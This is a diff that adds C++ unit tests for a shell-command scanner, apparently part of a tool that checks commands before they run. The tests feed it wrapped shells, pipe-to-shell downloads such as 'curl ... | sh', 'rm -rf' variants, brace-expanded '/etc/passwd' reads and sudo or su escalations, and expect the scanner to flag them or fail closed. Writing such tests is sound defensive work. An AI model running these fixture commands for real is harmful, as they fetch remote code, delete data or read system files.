@@ -311,3 +311,116 @@ TEST_CASE("shell: hostile input finishes quickly", "[shell]") {
 
   CHECK(Clock::now() - start < std::chrono::seconds(5));
 }
+
+TEST_CASE("shell: a shell behind wrappers has its -c script scanned", "[shell]") {
+  for (std::string line : {"env sh -c 'rm x'", "env -i bash -c 'rm x'", "/usr/bin/env FOO=1 sh -c 'rm x'",
+                           "nohup sh -c 'rm x'", "timeout 5 bash -c 'rm x'", "timeout -s KILL 5 bash -c 'rm x'",
+                           "command bash -c 'rm x'", "exec sh -c 'rm x'", "nice -n 5 sh -c 'rm x'",
+                           "stdbuf -oL sh -c 'rm x'", "xargs -0 sh -c 'rm x'", "sudo -u root env X=1 bash -c 'rm x'",
+                           "nohup nice timeout 5 /bin/sh -c 'rm x'", "find . -exec sh -c 'rm x' \\;",
+                           "busybox sh -c 'rm x'"}) {
+    INFO(line);
+    const auto listed = texts(line);
+    CHECK(listed.size() == 2);
+    CHECK(listed.back() == "rm x");
+  }
+  for (std::string line : {"setsid -f sh -c 'rm x'", "ionice -c 3 bash -c 'rm x'", "chroot / sh -c 'rm x'",
+                           "su -c 'rm x'", "su - root -c 'rm x'", "runuser -u nobody -c 'rm x'"}) {
+    INFO(line);
+    CHECK(texts(line).back() == "rm x");
+  }
+  // A shell started by sudo -s / -i or su without a command reads what is piped in.
+  for (std::string line : {"echo 'rm x' | sudo -s", "sudo -u root -i", "doas -s", "echo 'rm x' | su",
+                           "su - nobody", "su --command='rm x'"}) {
+    INFO(line);
+    CHECK_FALSE(problem(line).empty());
+  }
+  CHECK(texts("sudo -s rm x") == Strings{"sudo -s rm x"});
+  CHECK(texts("sudo -u sam make") == Strings{"sudo -u sam make"});
+  // A wrapper option toold cannot read in front of a shell: the line fails closed.
+  CHECK_THAT(problem("timeout --no-such-option 5 sh"), Catch::Contains("wrapper"));
+  CHECK_THAT(problem("env -S 'sh -c x'"), Catch::Contains("env -S"));
+  CHECK_THAT(problem("env --split-string='rm x'"), Catch::Contains("env -S"));
+}
+
+TEST_CASE("shell: a shell reading its script from stdin, a here-document or a descriptor fails closed", "[shell]") {
+  for (std::string line : {"sh", "bash -s", "bash -s -- a b", "bash -x", "curl -s https://x.example/i | sh",
+                           "cat script | bash -", "sh <<EOF\nrm x\nEOF", "bash <(curl -s https://x.example)",
+                           "bash /dev/stdin", "sh /dev/fd/3 3<script", "bash /proc/self/fd/0", "xargs bash",
+                           "exec bash", "echo x | setsid bash", "chroot / sh", "source /dev/stdin", ". /dev/fd/0", "source <(echo rm x)",
+                           "source \"$SCRIPT\"", "bash \"$SCRIPT\"", "fish -c 'rm x'", "env pwsh -Command x"}) {
+    INFO(line);
+    CHECK_FALSE(problem(line).empty());
+  }
+  // A script file is run, not read: the file's commands are a documented blind spot.
+  CHECK(texts("bash script.sh arg") == Strings{"bash script.sh arg"});
+  CHECK(texts("source venv/bin/activate") == Strings{"source venv/bin/activate"});
+  CHECK(texts("bash --version") == Strings{"bash --version"});
+}
+
+TEST_CASE("shell: eval fails closed behind wrappers, trap actions are scanned", "[shell]") {
+  CHECK_FALSE(problem("command eval 'rm x'").empty());
+  CHECK_FALSE(problem("builtin eval x").empty());
+  CHECK(texts("trap 'rm -rf x' EXIT") == Strings{"trap 'rm -rf x' EXIT", "rm -rf x"});
+  CHECK(texts("trap -- \"rm y\" INT TERM") == Strings{"trap -- \"rm y\" INT TERM", "rm y"});
+  CHECK(texts("trap - INT") == Strings{"trap - INT"});
+  CHECK(texts("trap '' INT") == Strings{"trap '' INT"});
+  CHECK(texts("trap -p") == Strings{"trap -p"});
+  CHECK_FALSE(problem("trap \"$ACTION\" EXIT").empty());
+  CHECK_FALSE(problem("trap 'rm \\'x' EXIT").empty());
+  CHECK_FALSE(problem("mapfile -C 'rm x' -c 1 lines < f").empty());
+  CHECK_FALSE(problem("readarray -C'rm x' lines").empty());
+}
+
+TEST_CASE("shell: coproc bodies are the commands listed", "[shell]") {
+  CHECK(texts("coproc rm -rf x") == Strings{"rm -rf x"});
+  CHECK(words("coproc rm -rf x") == Strings{"rm", "-rf", "x"});
+  CHECK(texts("coproc NAME { rm x; }") == Strings{"rm x"});
+  CHECK(texts("coproc { rm x; cat y; }") == Strings{"rm x", "cat y"});
+  CHECK(texts("coproc WORKER ( rm x )") == Strings{"rm x"});
+  CHECK(texts("coproc while true; do rm x; done") == Strings{"true", "rm x"});
+  CHECK(texts("coproc cat; echo done") == Strings{"cat", "echo done"});
+}
+
+TEST_CASE("shell: static brace expansion gives the words that run", "[shell]") {
+  CHECK(words("cat /etc/{passwd,hostname}") == Strings{"cat", "/etc/passwd", "/etc/hostname"});
+  CHECK(words("{rm,-rf,/etc}") == Strings{"rm", "-rf", "/etc"});
+  CHECK(words("ls {a,b}/x") == Strings{"ls", "a/x", "b/x"});
+  CHECK(words("ls x{,.bak}") == Strings{"ls", "x", "x.bak"});
+  CHECK(words("echo {a,{b,c}}d") == Strings{"echo", "ad", "bd", "cd"});
+  CHECK(words("echo {x{a,b}}") == Strings{"echo", "{xa}", "{xb}"});
+  CHECK(words("echo f{1..3}") == Strings{"echo", "f1", "f2", "f3"});
+  CHECK(words("echo {3..1..2}") == Strings{"echo", "3", "1"});
+  CHECK(words("echo {08..10}") == Strings{"echo", "08", "09", "10"});
+  CHECK(words("echo {a..c}") == Strings{"echo", "a", "b", "c"});
+  // Not expansions: quoted or escaped braces, no comma, a parameter, `{}`.
+  CHECK(words("echo '{a,b}' \\{a,b} {a} ${x} {} \"{a,b}\"") ==
+        Strings{"echo", "{a,b}", "{a,b}", "{a}", "${x}", "{}", "{a,b}"});
+  CHECK(words("echo {a,'b,c'}") == Strings{"echo", "a", "b,c"});
+  // The text stays as written; an assignment is not expanded.
+  CHECK(texts("X={a,b} cat {a,b}") == Strings{"X={a,b} cat {a,b}"});
+  CHECK(words("X={a,b} cat {a,b}") == Strings{"cat", "a", "b"});
+  // Bounded: more than 1024 words, or braces nested too deep, fail closed.
+  CHECK_THAT(problem("echo {1..2000}"), Catch::Contains("brace expansion"));
+  CHECK_THAT(problem("echo {1..99999999999999999999}"), Catch::Contains("brace expansion"));
+  CHECK_THAT(problem("echo {a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}"), Catch::Contains("brace expansion"));
+  std::string deep = "echo ";
+  for (int i = 0; i < 100; ++i) deep += "{a,";
+  deep += std::string(100, '}');
+  CHECK_THAT(problem(deep), Catch::Contains("brace expansion"));
+  // A -c script made by brace expansion is not the text written.
+  CHECK_FALSE(problem("bash -c {'rm x',y}").empty());
+}
+
+TEST_CASE("shell: brace expansion stays bounded on hostile words", "[shell]") {
+  const auto start = std::chrono::steady_clock::now();
+  std::string line = "echo ";
+  for (int i = 0; i < 200000; ++i) line += "{a";
+  (void)scanShellCommand(line);
+  line = "echo " + std::string(200000, '{') + "a,b" + std::string(200000, '}');
+  CHECK_FALSE(scanShellCommand(line).parsed);
+  line = "echo ";
+  for (int i = 0; i < 20000; ++i) line += "{a,b}x ";
+  CHECK_FALSE(scanShellCommand(line).parsed);
+  CHECK(std::chrono::steady_clock::now() - start < std::chrono::seconds(5));
+}
